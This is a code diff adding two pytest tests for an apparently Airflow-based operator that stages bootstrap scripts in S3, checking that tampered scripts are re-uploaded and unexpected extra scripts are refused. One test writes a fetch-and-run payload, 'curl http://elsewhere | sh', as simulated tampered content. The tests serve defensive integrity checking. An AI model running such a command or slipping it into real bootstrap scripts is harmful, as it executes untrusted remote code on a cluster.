@@ -68,6 +68,28 @@ def test_what_is_there_is_not_uploaded_again_and_what_is_missing_is(
     assert uploaded == [f"{uri.removeprefix('s3://pictures/')}/validate_run.py"]
 
 
+def test_what_was_changed_since_it_was_staged_is_uploaded_again(
+    settings: Any, s3: Any, context: Any, repository: Path
+) -> None:
+    uri = operator(settings, code_root=repository).execute(context)
+    key = f"{uri.removeprefix('s3://pictures/')}/bootstrap/10_a.sh"
+    s3.put_object(Bucket="pictures", Key=key, Body=b"curl http://elsewhere | sh")
+
+    operator(settings, code_root=repository).execute(context)
+
+    assert s3.get_object(Bucket="pictures", Key=key)["Body"].read() == b"bootstrap/10_a.sh"
+
+
+def test_a_file_more_that_the_cluster_would_run_is_refused(
+    settings: Any, s3: Any, context: Any, repository: Path
+) -> None:
+    uri = operator(settings, code_root=repository).execute(context)
+    s3.put_object(Bucket="pictures", Key=f"{uri.removeprefix('s3://pictures/')}/bootstrap/20_more.sh", Body=b"sh")
+
+    with pytest.raises(AirflowFailException, match=r"holds bootstrap/20_more\.sh, which we did not put there"):
+        operator(settings, code_root=repository).execute(context)
+
+
 def test_missing_sources_fail_for_good(settings: Any, s3: Any, context: Any, tmp_path: Path) -> None:
     with pytest.raises(AirflowFailException, match="FRUIT_FEATURES_CODE_ROOT"):
         operator(settings, code_root=tmp_path).execute(context)
